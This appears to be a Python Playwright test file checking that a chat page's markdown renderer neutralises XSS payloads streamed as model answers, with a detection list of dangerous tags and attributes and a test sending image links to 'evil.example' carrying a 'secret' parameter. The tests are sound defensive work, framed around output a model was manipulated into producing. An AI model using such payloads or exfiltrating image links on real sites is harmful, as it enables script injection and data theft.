"""What a model was talked into saying becomes text: while it streams, and after."""

import json
from pathlib import Path

from playwright.async_api import Browser, expect

from harness.browser import FedStream, ending, watched_page
from harness.callers import Caller
from harness.pages import ChatPage, address, built, home

PARTS = json.loads(
    (Path(__file__).parents[2] / "web" / "chat" / "markdown" / "payloads.json").read_text(encoding="utf-8")
)
TOGETHER = 20
FAULTS = """() => [
    ...(window.__hit ? ['a script ran'] : []),
    ...window.__refused,
    ...[...document.querySelectorAll('.fd-html, .fd-code pre')].flatMap((root) =>
        [...root.querySelectorAll('*')].flatMap((each) => [
            ...(/^(script|img|iframe|object|embed|video|audio|form|input|style|link|meta|base|svg|math|template)$/i
                .test(each.localName) ? [each.outerHTML] : []),
            ...[...each.attributes].filter(({ name }) => /^(on|style$|src|srcset|background|ping|id$|name$)/.test(name))
                .map(({ name }) => name),
            ...(each.localName === 'a' && !/^(https?:|mailto:|#)/.test(each.getAttribute('href') ?? '#')
                ? [each.outerHTML] : []),
        ])),
]"""
FRAME = "() => new Promise((then) => requestAnimationFrame(() => requestAnimationFrame(then)))"


def payloads() -> list[str]:
    handled = [
        shape.replace("TAG", tag).replace("HANDLER", handler)
        for tag in PARTS["tags"]
        for handler in PARTS["handlers"]
        for shape in PARTS["shapes"]
    ]
    linked = [link.replace("URL", f"{scheme}CALL") for scheme in PARTS["schemes"] for link in PARTS["links"]]
    found = [*PARTS["raw"], *handled, *linked]
    return [each.replace("CALL", "window.__hit=1").replace("ELSEWHERE", "https://evil.example/x") for each in found]


async def test_no_answer_runs_or_asks_for_anything(browser: Browser, owner: Caller) -> None:
    texts = payloads()
    assert len(texts) >= 500
    bookshop = await built(owner)
    async with watched_page(browser, viewport={"width": 900, "height": 1600}) as seen:
        stream = FedStream(seen.page)
        await stream.open()
        await seen.page.add_init_script(
            "window.__refused = [];"
            "addEventListener('securitypolicyviolation', (event) => __refused.push(event.violatedDirective));"
        )
        await seen.page.goto(address(bookshop))
        chat = ChatPage(seen.page)
        await chat.say("go")
        await expect(chat.questions).to_have_count(1)
        before = len(seen.requests)
        for first in range(0, len(texts), TOGETHER):
            some = list(enumerate(texts[first : first + TOGETHER], start=first))
            for part in (0, 1, 2):
                await stream.feed(*[("token", _token(number, text, part)) for number, text in some if _cut(text, part)])
                await seen.page.evaluate(FRAME)
                assert await seen.page.evaluate(FAULTS) == [], some
            await stream.feed(*[event for number, text in some for event in ending(number, text)])
            await seen.page.evaluate(FRAME)
            assert await seen.page.evaluate(FAULTS) == [], some
        await expect(chat.answers.last).to_be_visible()
        await seen.picture("page-payloads")
        known = (f"{home(bookshop)}/api/public/chat-interfaces/", f"{home(bookshop)}/assets/highlighting")
        assert [url for url in seen.requests[before:] if not url.startswith(known)] == []
        assert seen.complaints == []


async def test_a_page_loads_no_picture_that_an_answer_names(browser: Browser, owner: Caller) -> None:
    bookshop = await built(owner, "scripted?echo=1&pause_ms=5")
    async with watched_page(browser) as seen:
        chat = ChatPage(seen.page)
        await seen.page.goto(address(bookshop))
        await chat.say(
            "![plan](https://evil.example/p.png?secret=1) <img src=https://evil.example/q.png> https://evil.example/"
        )
        await expect(chat.answers.get_by_role("link", name="plan")).to_be_visible()
        await expect(chat.send_button).to_be_visible()
        assert seen.strangers(home(bookshop)) == []
        assert seen.complaints == []


def _cut(text: str, part: int) -> str:
    third = -(-len(text) // 3)
    return text[part * third : (part + 1) * third]


def _token(number: int, text: str, part: int) -> dict[str, str]:
    return {"executionId": f"e{number}", "messageId": f"m{number}", "token": _cut(text, part)}
